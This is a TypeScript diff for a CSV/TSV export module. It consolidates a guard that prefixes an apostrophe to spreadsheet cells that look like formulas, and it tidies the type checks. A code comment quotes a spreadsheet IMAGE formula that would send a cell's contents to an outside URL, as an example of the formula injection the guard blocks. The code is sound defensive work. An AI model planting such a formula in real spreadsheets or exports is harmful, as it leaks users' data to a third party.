@@ -4,7 +4,8 @@
  * file and a model and the person will open the download in Excel or Sheets.
  */
 import type { Cell } from './cell.ts';
-import { STANDARD_CSV, type CsvDialect } from './csv-dialect.ts';
+import { dateKind, STANDARD_CSV, type CsvDialect } from './csv-dialect.ts';
+import { isNumericType } from '../sql/profile.ts';
 import { quoteLiteral } from '../sql/sql-text.ts';
 
 /**
@@ -14,6 +15,8 @@ import { quoteLiteral } from '../sql/sql-text.ts';
  */
 const FORMULA_FIRST = ['=', '+', '-', '@', '\t', '\r'];
 const startsFormula = (text: string): boolean => FORMULA_FIRST.includes(text.charAt(0));
+/** The text with a leading apostrophe where a spreadsheet would read it as a formula. */
+const guarded = (text: string): string => (startsFormula(text) ? `'${text}` : text);
 
 /** Characters that make a field need quotes, with the dialect's separator. */
 const needsQuotes = (separator: string) => (separator === ';' ? /[";\r\n]/ : /[",\r\n]/);
@@ -24,8 +27,6 @@ export interface CsvColumn {
   type?: string;
 }
 
-const NUMBER =
-  /^(TINYINT|SMALLINT|INTEGER|BIGINT|HUGEINT|UTINYINT|USMALLINT|UINTEGER|UBIGINT|UHUGEINT|FLOAT|DOUBLE|DECIMAL)/;
 const ISO_DATE = /^(\d{4})-(\d{2})-(\d{2})(.*)$/;
 
 /** An ISO date (or timestamp) as the dialect writes it; other text as it is. */
@@ -42,20 +43,20 @@ function field(cell: Cell, type: string | undefined, dialect: CsvDialect): strin
   // -Infinity and NaN are no number a sheet reads: text, guarded like any (`'-Infinity`).
   if (typeof cell === 'number' && !Number.isFinite(cell))
     return textField(String(cell), dialect.separator);
-  // A number: a 64-bit integer or a DECIMAL may come as its exact text.
-  if (typeof cell === 'number' || (type && NUMBER.test(type) && typeof cell === 'string')) {
+  // A number: a 64-bit integer or a DECIMAL may come as its exact text (a list of numbers is
+  // text, quoted as any).
+  if (typeof cell === 'number' || (type && isNumericType(type) && typeof cell === 'string')) {
     const text = String(cell);
     return dialect.decimal === ',' ? text.replace('.', ',') : text;
   }
-  if (type && /^(DATE|TIMESTAMP)/.test(type) && !type.includes('TIME ZONE'))
-    return textField(dialectDate(cell, dialect), dialect.separator);
+  if (type && dateKind(type)) return textField(dialectDate(cell, dialect), dialect.separator);
   return textField(cell, dialect.separator);
 }
 
 /** A text cell, guarded against formula injection and quoted where it needs to be. */
 export function textField(text: string, separator: ',' | ';' = ','): string {
-  const guarded = startsFormula(text) ? `'${text}` : text;
-  return needsQuotes(separator).test(guarded) ? `"${guarded.replaceAll('"', '""')}"` : guarded;
+  const safe = guarded(text);
+  return needsQuotes(separator).test(safe) ? `"${safe.replaceAll('"', '""')}"` : safe;
 }
 
 /**
@@ -97,12 +98,11 @@ export function toCsv(
 export function toTsv(headers: readonly string[], rows: readonly (readonly Cell[])[]): string {
   // Pasted into a sheet, a text that starts like a formula runs (`=IMAGE("https://…?d="&B2)`):
   // it is guarded as the CSV's cells are (issue 46), and so is a number no sheet reads (-Infinity).
-  const guard = (text: string) => (startsFormula(text) ? `'${text}` : text);
   const cell = (value: Cell | string) =>
     value === null
       ? ''
       : typeof value === 'number' && Number.isFinite(value)
         ? String(value)
-        : guard(String(value)).replace(/[\t\r\n]+/g, ' ');
+        : guarded(String(value)).replace(/[\t\r\n]+/g, ' ');
   return [headers, ...rows].map((row) => row.map(cell).join('\t')).join('\n') + '\n';
 }
